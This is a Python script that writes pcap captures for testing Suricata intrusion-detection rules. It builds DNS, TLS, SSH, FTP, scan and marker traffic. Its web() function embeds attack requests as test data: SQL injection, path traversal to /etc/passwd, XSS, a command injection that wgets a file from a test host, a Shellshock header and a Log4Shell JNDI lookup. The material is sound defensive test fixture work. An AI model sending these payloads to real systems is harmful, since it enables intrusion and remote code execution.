#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Makes the captures of catalog/suricata/tests. They are kept in the repository; this says how they came to be.

make_captures.py FOLDER: writes FOLDER/<case>/capture.pcap. Equal bytes every time.
"""
import pathlib
import struct
import sys

CLIENT, SERVER = "10.1.0.10", "192.0.2.80"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def address(text):
    if ":" not in text:
        return bytes(map(int, text.split(".")))
    head, _, tail = text.partition("::")
    left = [int(x, 16) for x in head.split(":") if x]
    right = [int(x, 16) for x in tail.split(":") if x]
    return struct.pack("!8H", *(left + [0] * (8 - len(left) - len(right)) + right))


def ip_packet(src, dst, proto, payload, at):
    """at: place of the transport's checksum in payload, or None."""
    source, target = address(src), address(dst)
    v6 = len(source) == 16
    if at is not None:
        pseudo = source + target + (struct.pack("!II", len(payload), proto) if v6 else
                                    struct.pack("!HH", proto, len(payload)))
        if proto == 1:
            pseudo = b""
        payload = payload[:at] + struct.pack("!H", checksum(pseudo + payload)) + payload[at + 2:]
    if v6:
        return 0x86DD, struct.pack("!IHBB", 6 << 28, len(payload), proto, 64) + source + target + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0x4000, 64, proto, 0) + source + target
    return 0x0800, head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


class Capture:
    def __init__(self):
        self.frames = []
        self.time = 1_700_000_000_000_000

    def frame(self, ethertype, packet, vlan=None):
        self.time += 1000
        tag = b"" if vlan is None else struct.pack("!HH", 0x8100, vlan)
        frame = b"\x02\0\0\0\0\x01\x02\0\0\0\0\x02" + tag + struct.pack("!H", ethertype) + packet
        self.frames.append((self.time, frame.ljust(60, b"\0")))

    def tcp(self, src, sport, dst, dport, seq, ack, flags, data=b"", window=64240, options=b"", vlan=None):
        head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (20 + len(options)) // 4 << 4, flags, window, 0, 0)
        self.frame(*ip_packet(src, dst, 6, head + options + data, 16), vlan)

    def udp(self, src, sport, dst, dport, data, vlan=None):
        self.frame(*ip_packet(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data, 6), vlan)

    def echo(self, src, dst, data):
        self.frame(*ip_packet(src, dst, 1, struct.pack("!BBHHH", 8, 0, 0, 7, 1) + data, 2))

    def talk(self, sport, dport, turns, src=CLIENT, dst=SERVER, vlan=None):
        """A whole TCP conversation. turns: (from the client?, bytes)."""
        mss = b"\x02\x04\x05\xb4"
        mine, theirs = 1000, 5000
        self.tcp(src, sport, dst, dport, mine, 0, 0x02, options=mss, vlan=vlan)
        self.tcp(dst, dport, src, sport, theirs, mine + 1, 0x12, options=mss, vlan=vlan)
        mine, theirs = mine + 1, theirs + 1
        self.tcp(src, sport, dst, dport, mine, theirs, 0x10, vlan=vlan)
        for client, data in turns:
            for at in range(0, len(data), 1200):
                part = data[at:at + 1200]
                if client:
                    self.tcp(src, sport, dst, dport, mine, theirs, 0x18, part, vlan=vlan)
                    mine += len(part)
                    self.tcp(dst, dport, src, sport, theirs, mine, 0x10, vlan=vlan)
                else:
                    self.tcp(dst, dport, src, sport, theirs, mine, 0x18, part, vlan=vlan)
                    theirs += len(part)
                    self.tcp(src, sport, dst, dport, mine, theirs, 0x10, vlan=vlan)
        self.tcp(src, sport, dst, dport, mine, theirs, 0x11, vlan=vlan)
        self.tcp(dst, dport, src, sport, theirs, mine + 1, 0x11, vlan=vlan)
        self.tcp(src, sport, dst, dport, mine + 1, theirs + 1, 0x10, vlan=vlan)

    def bytes(self):
        out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
        for time, frame in self.frames:
            out += struct.pack("<IIII", time // 1_000_000, time % 1_000_000, len(frame), len(frame)) + frame
        return out


def request(path, agent="Mozilla/5.0", extra=""):
    return f"GET {path} HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: {agent}\r\n{extra}\r\n".encode()


def answer(body=b"<html>fine</html>", kind="text/html"):
    return f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def question(name, number=1):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def reply(name, number=1):
    query = question(name, number)
    return (query[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + query[12:] +
            struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + bytes([192, 0, 2, 1]))


def client_hello(name):
    sni = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name.encode()
    extensions = struct.pack("!HH", 0, len(sni)) + sni
    body = (b"\x03\x03" + bytes(range(32)) + b"\0" + struct.pack("!HH", 2, 0xC02F) + b"\x01\0" +
            struct.pack("!H", len(extensions)) + extensions)
    message = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


def server_hello(version):
    body = version + bytes(range(32, 64)) + b"\0" + struct.pack("!H", 0xC014) + b"\0"
    message = b"\x02" + struct.pack("!I", len(body))[1:] + body
    return b"\x16" + version + struct.pack("!H", len(message)) + message


def web(c):
    """Attacks in requests, one a conversation, and a harmless one."""
    paths = ["/index.php?id=1%20UNION%20SELECT%20password%20FROM%20users", "/../../etc/passwd",
             "/?q=<script>alert(1)</script>", "/cgi?x=;wget%20http://203.0.113.5/x", "/.git/config", "/fine.html"]
    for i, path in enumerate(paths):
        c.talk(40000 + i, 80, [(True, request(path)), (False, answer())])
    c.talk(40100, 80, [(True, request("/", "sqlmap/1.8")), (False, answer())])
    c.talk(40101, 80, [(True, request("/", "Nikto/2.5")), (False, answer())])
    c.talk(40102, 80, [(True, request("/", "Mozilla/5.0 (compatible; Nmap Scripting Engine)")), (False, answer())])
    c.talk(40103, 80, [(True, request("/", "() { :; }; /bin/id")), (False, answer())])
    c.talk(40104, 80, [(True, request("/", extra="X-Api: ${jndi:ldap://203.0.113.5/a}\r\n")), (False, answer())])
    c.talk(40105, 80, [(True, request("/", extra="Authorization: Basic dXNlcjpwYXNz\r\n")), (False, answer())])
    c.talk(40106, 80, [(True, request("/files/")), (False, answer(b"<html><title>Index of /files</title></html>"))])
    program = b"MZ" + b"\x90" * 76 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\0" * 4000
    c.talk(40107, 80, [(True, request("/setup.exe")), (False, answer(program, "application/octet-stream"))])


def names(c):
    """DNS queries with answers, and server names of TLS."""
    for i, name in enumerate(["www.example.test", "malware.picket.test", "abcdefghij.onion", "a" * 55 + ".example.test",
                              "pool.minexmr.example"]):
        c.udp(CLIENT, 50000 + i, "10.1.0.53", 53, question(name, i + 1))
        c.udp("10.1.0.53", 53, CLIENT, 50000 + i, reply(name, i + 1))
    c.talk(41000, 443, [(True, client_hello("malware.picket.test")), (False, server_hello(b"\x03\x03"))])
    c.talk(41001, 443, [(True, client_hello("www.example.test")), (False, server_hello(b"\x03\x01"))])


def logins(c):
    """SSH banners, telnet, FTP with a password."""
    for i, banner in enumerate([b"SSH-2.0-OpenSSH_9.6\r\n", b"SSH-2.0-libssh_0.10.5\r\n", b"SSH-1.5-old\r\n"]):
        c.talk(42000 + i, 22, [(False, b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"), (True, banner)])
    c.talk(42010, 23, [(False, b"login: "), (True, b"root\r\n")])
    c.talk(42011, 21, [(False, b"220 ready\r\n"), (True, b"USER someone\r\n"), (False, b"331 password\r\n"),
                       (True, b"PASS secret\r\n"), (False, b"230 in\r\n"), (True, b"QUIT\r\n"), (False, b"221 bye\r\n")])


def scans(c):
    """SYN, NULL and XMAS scans of ten ports each."""
    for i in range(10):
        c.tcp(CLIENT, 43000, SERVER, 8000 + i, 1, 0, 0x02, window=1024, options=b"\x02\x04\x05\xb4")
        c.tcp(SERVER, 8000 + i, CLIENT, 43000, 0, 2, 0x14)
        c.tcp(CLIENT, 43001, SERVER, 8100 + i, 1, 0, 0x00, window=1024)
        c.tcp(CLIENT, 43002, SERVER, 8200 + i, 1, 0, 0x29, window=1024)


def marker(c):
    """The text of the test signature over TCP, UDP and ICMP; IPv6, VLAN."""
    c.talk(44000, 9999, [(True, b"a picket-test-alert b\n"), (False, b"thanks\n")])
    c.udp(CLIENT, 44001, SERVER, 9999, b"picket-test-alert")
    c.echo(CLIENT, SERVER, b"picket-test-alert")
    c.talk(44002, 9999, [(True, b"picket-test-alert\n")], "2001:db8::10", "2001:db8::80")
    c.talk(44003, 9999, [(True, b"picket-test-alert\n")], vlan=110)
    c.udp("2001:db8::10", 44004, "2001:db8::80", 9999, b"picket-test-alert", 110)


CASES = [web, names, logins, scans, marker]


def main():
    folder = pathlib.Path(sys.argv[1])
    for make in CASES:
        capture = Capture()
        make(capture)
        path = folder / make.__name__ / "capture.pcap"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(capture.bytes())


if __name__ == "__main__":
    main()
